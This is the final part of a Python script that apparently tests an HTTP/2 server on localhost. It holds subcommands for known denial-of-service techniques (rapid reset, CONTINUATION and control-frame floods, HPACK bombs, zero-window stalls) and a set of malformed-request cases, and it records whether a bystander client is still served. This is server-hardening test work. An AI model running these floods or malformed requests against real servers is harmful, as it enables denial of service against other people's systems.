        # well-formed, for contrast: these are served
        "te-trailers": (get + [("te", "trailers"), mark], None, None),
        "cl-matches": (post + [("content-length", "5"), mark], b"hello", None),
    }
    return cases[name]


MALFORMED_CASES = [
    "missing-method", "missing-scheme", "missing-path", "empty-path", "duplicate-path", "unknown-pseudo",
    "response-pseudo", "pseudo-after-regular", "uppercase-name", "empty-name", "colon-in-name", "crlf-in-value",
    "nul-in-value", "lf-in-path", "space-in-path", "connection", "keep-alive", "proxy-connection",
    "transfer-encoding", "upgrade", "te-gzip", "cl-not-a-number", "cl-conflicting", "cl-too-long", "cl-too-short",
    "cl-without-data", "pseudo-in-trailers", "te-trailers", "cl-matches",
]


def cmd_malformed(args):
    """One malformed request on a fresh connection; then, if the connection still stands, a good one on it."""
    start = time.monotonic()
    fields, body, trailers = malformed_case(args.case)
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    out = headers_frames(1, header_block(fields), end_stream=body is None)
    if body is not None:
        out += data_frames(1, body, end_stream=trailers is None)
    if trailers is not None:
        out += headers_frames(1, header_block(trailers), end_stream=True)
    conn.send(out)
    conn.wait(lambda: conn.answered(1), 5)
    answer = conn.stream(1)
    after = None
    if not conn.closed and conn.goaway is None:
        conn.send(headers_frames(3, header_block(request_headers("/after/" + args.case))))
        conn.wait(lambda: conn.answered(3), 5)
        after = conn.stream(3)
    emit("verdict", {"attack": "malformed", "case": args.case, "stream": answer, "after": after,
                     "elapsed_ms": now_ms(start), **conn.summary()})
    conn.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--port", type=int, required=True, help="the cleartext HTTP/2 port on 127.0.0.1")
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("ok", help="a well-behaved client")
    p.add_argument("--path", default="/ok")
    p.add_argument("--count", type=int, default=1)
    p.set_defaults(run=cmd_ok)

    p = sub.add_parser("bystander", help="another client during an attack, until stdin closes")
    p.add_argument("--h1-port", type=int, default=-1, help="where HTTP/1.1 goes (default --port; 0: none)")
    p.add_argument("--seconds", type=float, default=60)
    p.add_argument("--max-requests", type=int, default=2000)
    p.set_defaults(run=cmd_bystander)

    p = sub.add_parser("rapid-reset")
    p.add_argument("--streams", type=int, default=10000)
    p.add_argument("--seconds", type=float, default=5)
    p.set_defaults(run=cmd_rapid_reset)

    p = sub.add_parser("made-you-reset")
    p.add_argument("--streams", type=int, default=10000)
    p.add_argument("--seconds", type=float, default=5)
    p.set_defaults(run=cmd_made_you_reset)

    p = sub.add_parser("continuation")
    p.add_argument("--mode", choices=["big", "empty"], required=True)
    p.add_argument("--frames", type=int, default=4096)
    p.add_argument("--seconds", type=float, default=5)
    p.set_defaults(run=cmd_continuation)

    p = sub.add_parser("control-flood")
    p.add_argument("--kind", choices=["settings", "ping", "reset"], required=True)
    p.add_argument("--frames", type=int, default=500000)
    p.add_argument("--seconds", type=float, default=5)
    p.set_defaults(run=cmd_control_flood)

    p = sub.add_parser("empty-data")
    p.add_argument("--frames", type=int, default=1000000)
    p.add_argument("--seconds", type=float, default=5)
    p.set_defaults(run=cmd_empty_data)

    p = sub.add_parser("hpack-bomb")
    p.add_argument("--refs", type=int, default=16000)
    p.add_argument("--bombs", type=int, default=20)
    p.set_defaults(run=cmd_hpack_bomb)

    p = sub.add_parser("header-list")
    p.add_argument("--bytes", type=int, required=True)
    p.set_defaults(run=cmd_header_list)

    p = sub.add_parser("zero-window")
    p.add_argument("--mode", choices=["h2", "tcp"], required=True)
    p.add_argument("--streams", type=int, default=16)
    p.add_argument("--size", type=int, default=64 << 20)
    p.add_argument("--hold", type=float, default=20)
    p.set_defaults(run=cmd_zero_window)

    p = sub.add_parser("concurrency")
    p.add_argument("--streams", type=int, required=True)
    p.add_argument("--wait", type=float, default=2)
    p.set_defaults(run=cmd_concurrency)

    p = sub.add_parser("early-answer", help="a response that comes while the request body is unread")
    p.add_argument("--path", default="/early-answer")
    p.add_argument("--length", type=int, default=1000000)
    p.add_argument("--wait", type=float, default=10)
    p.set_defaults(run=cmd_early_answer)

    p = sub.add_parser("stalled-body", help="a request body that stops arriving")
    p.add_argument("--path", default="/stalled-body")
    p.add_argument("--length", type=int, default=1000)
    p.add_argument("--wait", type=float, default=10)
    p.set_defaults(run=cmd_stalled_body)

    p = sub.add_parser("upload", help="POSTs whose bodies may still be arriving when they are answered")
    p.add_argument("--path", default="/upload")
    p.add_argument("--length", type=int, default=61440)
    p.add_argument("--first", type=int, default=49152, help="body bytes sent with the headers")
    p.add_argument("--after", choices=["rest", "trailers", "reset", "nothing"], default="rest")
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--wait", type=float, default=5)
    p.set_defaults(run=cmd_upload)

    p = sub.add_parser("malformed")
    p.add_argument("--case", choices=MALFORMED_CASES, required=True)
    p.set_defaults(run=cmd_malformed)

    args = parser.parse_args()
    if getattr(args, "h1_port", 0) == -1:
        args.h1_port = args.port
    try:
        args.run(args)
    except (ConnectionRefusedError, socket.timeout) as e:
        emit("verdict", {"attack": args.command, "connect_error": str(e)})
        sys.exit(3)


if __name__ == "__main__":
    sys.stdout.reconfigure(line_buffering=True)
    main()
